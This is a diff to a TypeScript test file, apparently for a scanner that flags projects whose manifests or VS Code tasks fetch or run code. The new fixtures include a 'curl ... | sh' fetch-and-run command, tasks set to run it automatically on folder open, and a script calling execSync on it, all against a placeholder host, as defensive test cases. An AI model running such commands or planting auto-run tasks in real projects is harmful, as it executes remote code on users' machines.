@@ -13,6 +13,17 @@ const sample = (files: Files): Sample => ({
 const fetching = "curl -s https://a.example.org/x | sh"
 const manifest = (of: object): Files => ({ "package.json": `${JSON.stringify(of)}\n` })
 
+const tasks = (...all: readonly object[]): Files => ({
+  ".vscode/tasks.json": `// tasks\n${JSON.stringify({ version: "2.0.0", tasks: all })}\n`,
+})
+
+const starting = (runOn: string) => ({
+  type: "process",
+  command: "node",
+  args: [`\${workspaceFolder}/tests/a.js`],
+  runOptions: { runOn },
+})
+
 /** A release whose manifest starts or fetches code, and the same where it does not; the finding's severity and moment. */
 const rows: readonly (readonly [name: string, told: string, fires: Files, silent: Files])[] = [
   [
@@ -63,6 +74,24 @@ const rows: readonly (readonly [name: string, told: string, fires: Files, silent
       "npm-shrinkwrap.json": '{"packages":{"node_modules/a":{"resolved":"https://a.example.org/a.tgz","integrity":"sha512-aaaa"}}}\n',
       "package-lock.json": '{"packages":{"node_modules/a":{"resolved":"https://a.example.org/a.tgz"}}}\n',
     },
+  ],
+  [
+    "a task that runs when a folder is opened",
+    "alarm at start",
+    tasks({ label: "a", type: "shell", command: fetching, runOptions: { runOn: "folderOpen" } }),
+    tasks({ label: "a", type: "shell", command: "make", runOptions: { runOn: "folderOpen" } }),
+  ],
+  [
+    "one that is asked for",
+    "note at request",
+    tasks({ label: "a", type: "shell", command: "curl -so x https://a.example.org/x && sh x" }),
+    tasks({ label: "a", type: "shell", command: "curl -so x https://a.example.org/x && wc x" }),
+  ],
+  [
+    "a script that such a task starts",
+    "alarm at start",
+    { ...tasks(starting("folderOpen")), "tests/a.js": `require("child_process").execSync("${fetching}")\n` },
+    { ...tasks(starting("default")), "tests/a.js": `require("child_process").execSync("${fetching}")\n` },
   ],
 ]
 
